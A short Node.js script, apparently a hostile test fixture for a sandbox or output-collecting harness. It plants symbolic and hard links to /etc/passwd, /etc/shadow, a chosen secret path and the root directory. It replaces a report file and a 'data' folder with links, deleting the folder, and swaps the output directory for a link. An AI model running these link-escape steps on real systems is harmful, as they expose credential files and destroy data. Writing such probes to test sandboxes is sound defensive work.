// Leaves links that lead out of its folders, and puts one in the place of everything it owns.
import { linkSync, mkdirSync, renameSync, rmSync, symlinkSync } from 'node:fs';
import path from 'node:path';

const attempt = (work) => {
  try {
    work();
  } catch (error) {
    console.log(error.code);
  }
};
const { OUTPUT_DIR } = process.env;
const secret = process.argv[2] ?? '/etc/passwd';
for (const [index, target] of ['/etc/passwd', '/etc/shadow', secret, '/'].entries()) {
  attempt(() => { symlinkSync(target, path.join(OUTPUT_DIR, `link-${index}`)); });
  attempt(() => { linkSync(target, path.join(OUTPUT_DIR, `hard-${index}`)); });
}
attempt(() => { symlinkSync(secret, path.join(OUTPUT_DIR, 'report.json')); });
mkdirSync('folder');
attempt(() => { symlinkSync(path.dirname(secret), 'folder/out'); });
attempt(() => { rmSync('data', { recursive: true }); symlinkSync(path.dirname(secret), 'data'); });
attempt(() => { renameSync(OUTPUT_DIR, `${OUTPUT_DIR}-moved`); symlinkSync(path.dirname(secret), OUTPUT_DIR); });
